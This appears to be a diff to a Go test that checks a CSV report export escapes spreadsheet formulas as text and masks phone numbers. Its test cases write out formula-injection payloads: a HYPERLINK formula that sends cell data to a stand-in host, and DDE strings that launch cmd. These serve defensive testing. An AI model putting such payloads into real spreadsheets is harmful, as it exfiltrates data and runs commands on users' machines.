@@ -298,11 +298,23 @@ func TestReportCSVShowsFormulasAsText(t *testing.T) {
 		{"b", 3, `'=HYPERLINK("http://x.example/?"&A2,"open")`},
 		{"b", 11, `'@SUM(1+1)*cmd|'/C calc'!A0`},
 		{"a", 11, `'-2+3+cmd|'/C calc'!A0`},
-		{"a", 6, "+1-2"},
+		{"a", 6, "'+1-2"},
 		{"a", 1, "+905321000001"},
 	} {
 		if r := got[c.user]; r == nil || r[c.col] != c.want {
 			t.Errorf("%s's %s: %q, want %q", c.user, reportColumns[c.col], r, c.want)
+		}
+	}
+	// Masked, the addresses stay as they are too.
+	_, rows, _ = reportCSV(t, env, id)
+	for _, r := range rows {
+		if r[0] == "a" && r[2] == "sent" && r[1] != "+905*****0001" {
+			t.Errorf("a's masked address: %q, want +905*****0001", r[1])
+		}
+	}
+	for in, want := range map[string]string{"-1": "-1", "-0.5": "-0.5", "-2+3": "'-2+3", "+90 532": "'+90 532", "+": "'+"} {
+		if got := spreadsheetText(in); got != want {
+			t.Errorf("spreadsheetText(%q) = %q, want %q", in, got, want)
 		}
 	}
 	out, _, code := cli(t, env, "report", id, "--json", "--status", "failed")
